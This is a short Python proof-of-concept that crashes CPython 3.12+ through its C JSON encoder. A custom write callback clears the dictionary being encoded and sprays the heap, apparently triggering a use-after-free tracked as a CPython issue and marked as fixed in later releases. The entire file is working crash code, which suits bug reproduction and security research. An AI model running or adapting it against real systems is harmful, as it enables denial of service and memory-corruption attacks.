# technique: the function that json's encoder writes strings with empties the dict that is being encoded
# goal: crash
# python: 3.12+
# source: python/cpython#142831
# mended: later releases
import json.encoder


class Value:
    pass


def write(text):
    d.clear()
    junk.extend(bytes(b'A' * n) for n in range(15, 100, 16) for i in range(200))
    return '"x"'


junk = []
for i in range(50):
    d = {'k': Value()}
    json.encoder.c_make_encoder({}, lambda o: 1, write, None, ':', ',', False,
                                False, True)(d, 0)
